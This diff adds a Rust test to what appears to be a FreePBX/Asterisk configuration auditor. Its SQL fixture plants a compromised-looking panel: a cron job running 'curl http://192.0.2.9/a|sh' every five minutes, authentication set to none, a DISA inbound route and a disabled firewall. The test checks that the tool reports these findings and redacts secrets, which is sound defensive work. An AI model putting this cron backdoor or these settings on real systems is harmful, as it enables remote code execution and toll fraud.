@@ -123,3 +123,70 @@ g\tcarrier\t198.51.100.7:5060\thidden-secret\ttrue
     assert!(pbx.accounts.iter().any(|account| account.secret == Some(SecretStrength::Default)));
     assert!(!format!("{pbx:?}").contains("hidden"));
 }
+
+const OWN_TABLES: &str = "-- MySQL dump 10.13
+INSERT INTO `ampusers` (`username`,`password_sha1`,`sections`) VALUES ('admin','d033e22ae348aeb5660fc2140aec35850c4da997','*'),('ampuser','0123456789abcdef0123456789abcdef01234567','cdr;recordings');
+INSERT INTO `userman_users` (`id`,`username`,`password`) VALUES (1,'1001','$2a$08$hidden-secret'),(2,'boss','$2a$08$hidden-secret');
+INSERT INTO `userman_users_settings` (`uid`,`module`,`key`,`val`,`type`) VALUES (1,'global','pbx_login','0',NULL),(2,'global','pbx_login','1',NULL),(2,'global','pbx_modules','[\"*\"]','json-arr');
+INSERT INTO `outbound_routes` (`route_id`,`name`,`password`) VALUES (1,'local',''),(2,'world','4711');
+INSERT INTO `outbound_route_patterns` (`route_id`,`match_pattern_prefix`,`match_pattern_pass`,`match_cid`,`prepend_digits`) VALUES (1,'','NXXXXXX','','34'),(2,'9','00.','',''),(2,'','911','20X','');
+INSERT INTO `outbound_route_trunks` (`route_id`,`trunk_id`,`seq`) VALUES (2,9,1),(2,3,0);
+INSERT INTO `outbound_route_sequence` (`route_id`,`seq`) VALUES (2,0),(1,1);
+INSERT INTO `trunks` (`trunkid`,`name`,`tech`,`failscript`,`channelid`,`disabled`) VALUES (3,'Carrier','pjsip','','carrier-main','off');
+INSERT INTO `incoming` (`cidnum`,`extension`,`destination`) VALUES ('','','ext-group,600,1'),('','34911','disa,1,1');
+INSERT INTO `cron_jobs` (`modulename`,`jobname`,`command`,`class`,`schedule`,`max_runtime`,`enabled`,`execution_order`) VALUES ('sysadmin','xq7','curl http://192.0.2.9/a|sh',NULL,'*/5 * * * *',30,1,100),('framework','updates',NULL,'FreePBX\\\\Job','1 2 * * *',30,1,100);
+INSERT INTO `freepbx_settings` (`keyword`,`value`) VALUES ('AUTHTYPE','none'),('AMPMGRPASS','hidden-secret-2');
+INSERT INTO `users` (`extension`,`password`,`name`,`outboundcid`) VALUES ('301','','Front desk','');
+INSERT INTO `modules` (`id`,`modulename`,`version`,`enabled`) VALUES (1,'firewall','15.0.1',0);
+";
+
+#[test]
+fn what_a_panel_keeps_to_itself_is_told_even_where_files_tell_the_accounts() {
+    let files = "[general]\n[301]\ntype=friend\nhost=dynamic\nsecret=x9Kq27ZpLw\ncontext=inside\n";
+    let pbx = read_files(&[("asterisk.sql", OWN_TABLES), ("etc/asterisk/sip.conf", files)]);
+    let panel = &pbx.panel;
+    let users: Vec<String> = panel
+        .users
+        .iter()
+        .map(|user| format!("{} {} {} {:?}", user.table, user.name, user.is_administrator, user.sections))
+        .collect();
+    assert_eq!(
+        users,
+        [
+            "ampusers admin true [\"*\"]",
+            "ampusers ampuser false [\"cdr\", \"recordings\"]",
+            "userman_users boss true [\"*\"]"
+        ]
+    );
+    let routes: Vec<String> = panel
+        .outbound_routes
+        .iter()
+        .map(|route| {
+            let patterns = route.patterns.iter();
+            let patterns: Vec<String> = patterns
+                .map(|one| format!("({}){}|{}/{}", one.prepend, one.strip, one.pass, one.caller))
+                .collect();
+            format!("{} {} {patterns:?} {:?} {}", route.id, route.name, route.trunks, route.asks_for_pin)
+        })
+        .collect();
+    assert_eq!(
+        routes,
+        [
+            "2 world [\"()9|00./\", \"()|911/20X\"] [\"carrier-main\", \"trunk 9\"] true",
+            "1 local [\"(34)|NXXXXXX/\"] [] false"
+        ]
+    );
+    let jobs: Vec<&[u8]> = panel.jobs.iter().map(|job| job.place.text.as_ref()).collect();
+    assert_eq!(
+        String::from_utf8_lossy(jobs[0]),
+        "table cron_jobs: modulename=sysadmin jobname=xq7 command=curl http://192.0.2.9/a|sh schedule=*/5 * * * * enabled=1"
+    );
+    assert_eq!((panel.jobs[1].class.as_str(), panel.jobs[1].command.as_str()), ("FreePBX\\Job", ""));
+    assert_eq!(panel.inbound_routes[1].destination, "disa,1,1");
+    assert_eq!(panel.trunks[0].channel, "carrier-main");
+    assert!(!panel.modules[0].is_enabled);
+    let settings: Vec<&str> = panel.settings.iter().map(|held| held.keyword.as_str()).collect();
+    assert_eq!(settings, ["AUTHTYPE"]);
+    assert_eq!(pbx.accounts[0].display_name.as_deref(), Some("Front desk"));
+    assert!(!format!("{pbx:?}").contains("hidden-secret"));
+}
